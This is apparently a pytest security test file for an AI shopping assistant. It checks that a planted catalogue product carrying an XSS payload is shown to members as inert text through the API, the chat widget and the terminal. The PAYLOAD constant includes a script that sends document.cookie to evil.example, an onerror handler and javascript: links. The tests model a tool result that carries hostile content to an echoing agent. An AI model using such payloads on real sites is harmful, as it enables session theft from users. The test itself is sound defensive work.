"""Item 4 of issue 17: a product planted through the operator import (a real database row) whose title and
description carry a script tag, an image with an event handler, a `javascript:` link and a link to another
site reaches a member as inert text in every channel: the API (plain and streamed), the web widget's chat
bubble and tool steps, and the terminal. The model is an echo agent that repeats the tool's result verbatim,
the worst case for a model that follows what it reads."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator

import httpx
import pytest
from rich.console import Console

from assistant.events import TextDelta, ToolResult, TurnEvent
from assistant.guardrails import InertStream, inert_text
from retrieval.operator_import import parse_catalogue
from tests.security.conftest import RuntimeFactory
from tests.security.served import Served, echo_agent, serve
from tests.security.world import MAPPING, ME, Arena, build_arena
from tools.db import Database
from tools.seed import upsert_products

PAYLOAD = ("<script>fetch('https://evil.example/'+document.cookie)</script> <img src=x onerror=alert(1)> "
           "[click](javascript:alert(1)) [x](https://evil.example)")
TITLE = f"Planted earbuds {PAYLOAD}"


def assert_member_safe(shown: str, where: str) -> None:
    """Nothing a browser, a markdown renderer or a terminal would make live: no element, no handler, no link
    or image destination; the product's own words are still there."""
    lowered = shown.lower()
    assert "planted earbuds" in lowered, f"{where}: the product is not shown at all: {shown[:300]}"
    assert "<script" not in lowered and "<img" not in lowered, f"{where}: live HTML: {shown[:300]}"
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered), f"{where}: live event handler"
    assert not re.search(r"\]\s*\(", shown), f"{where}: a markdown link or image destination survived"
    assert "javascript:" not in lowered, f"{where}: a javascript: URL reached the member"
    assert "https://evil.example" not in lowered, f"{where}: a link to another site reached the member"


@pytest.fixture(scope="module")
def arena(tmp_path_factory: pytest.TempPathFactory) -> Arena:
    """The security world plus the planted product, imported through the operator path."""
    workdir = tmp_path_factory.mktemp("planted")
    built = build_arena(f"sqlite:///{workdir / 'assistant.db'}", workdir)
    csv_path = workdir / "planted.csv"
    csv_path.write_text(
        "sku,name,price,category,subcategory,brand,description,stock\n"
        + ",".join(json.dumps(v) for v in ["P000301", TITLE, "6980", "Electronics", "Earbuds", "Planted",
                                           f"Great sound. {PAYLOAD}", "9"]) + "\n",
        encoding="utf-8")
    imported = parse_catalogue(csv_path, MAPPING)
    assert not imported.bad and imported.products[0].title == TITLE
    db = Database(built.url)
    try:
        upsert_products(db, imported.products)
    finally:
        db.dispose()
    return built


@pytest.fixture
def served(make_runtime: RuntimeFactory) -> Iterator[Served]:
    with serve(make_runtime(echo_agent())) as running:
        yield running


def test_the_check_catches_the_payload() -> None:
    for live in (PAYLOAD, "[x](https://evil.example)", "<img src=x onerror=alert(1)>"):
        with pytest.raises(AssertionError):
            assert_member_safe("Planted earbuds " + live, "self-test")


def test_inert_text_keeps_the_words_and_drops_every_live_part() -> None:
    assert inert_text(TITLE).split() == ["Planted", "earbuds", "[click]", "[x]"]
    assert inert_text("**2 nights** for ¥8,000 < ¥9,000 - a<b") == "**2 nights** for ¥8,000 < ¥9,000 - a< b"
    for size in (1, 2, 3, 5, 11):  # a tag or link split anywhere by a token stream gives the same text
        stream = InertStream()
        pieces = "".join(stream.feed(TITLE[i:i + size]) for i in range(0, len(TITLE), size)) + stream.flush()
        assert pieces == inert_text(TITLE), size


def test_api_answer_plain_and_streamed(served: Served) -> None:
    body = {"model": "member-assistant", "messages": [{"role": "user", "content": "search planted earbuds"}]}
    with httpx.Client(base_url=served.url, timeout=60) as client:
        plain = client.post("/v1/chat/completions", headers=served.auth(ME), json=body)
        streamed = client.post("/v1/chat/completions", headers=served.auth(ME), json={**body, "stream": True})
    assert plain.status_code == 200, plain.text
    assert_member_safe(plain.json()["choices"][0]["message"]["content"], "API answer")
    chunks = [json.loads(line[6:]) for line in streamed.text.splitlines() if line.startswith("data: {")]
    text = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks if c.get("choices"))
    assert_member_safe(text, "API stream")


def _turn(make_runtime: RuntimeFactory) -> list[TurnEvent]:
    runtime = make_runtime(echo_agent())
    thread = runtime.conversations.new_thread(ME)
    events = list(runtime.conversations.send(member_id=ME, thread_id=thread, text="search planted earbuds"))
    found = [e for e in events if isinstance(e, ToolResult) and e.name == "search_products"]
    assert found and "P000301" in found[0].content, "the planted row was searched for real"
    return events


def test_web_widget_bubble_steps_and_cards(make_runtime: RuntimeFactory) -> None:
    from assistant.web.ui_chat import TurnView, stream_turn, text_of

    view = TurnView([])
    view.add_user("search planted earbuds")
    for _ in stream_turn(view, _turn(make_runtime)):
        pass
    answer = text_of(view.messages[-1])
    assert_member_safe(answer.replace("&lt;", "<").replace("&gt;", ">"), "chat bubble (entities decoded)")
    for message in view.messages:
        shown = text_of(message)
        assert "<script" not in shown.lower() and "<img src=x" not in shown.lower(), shown[:300]
        assert not re.search(r"\]\(\s*(javascript|https?):", shown), shown[:300]


def test_terminal_prints_inert_text(make_runtime: RuntimeFactory) -> None:
    from assistant.commands.chat import ChatSession

    out = io.StringIO()
    console = Console(file=out, width=400, color_system=None)
    events = _turn(make_runtime)
    session = ChatSession.__new__(ChatSession)
    session.console = console
    session.show(events)
    printed = out.getvalue()
    streamed = "".join(e.text for e in events if isinstance(e, TextDelta))
    assert "evil.example" in streamed, "the model did repeat the payload (else the test proves nothing)"
    assert_member_safe(printed, "terminal")
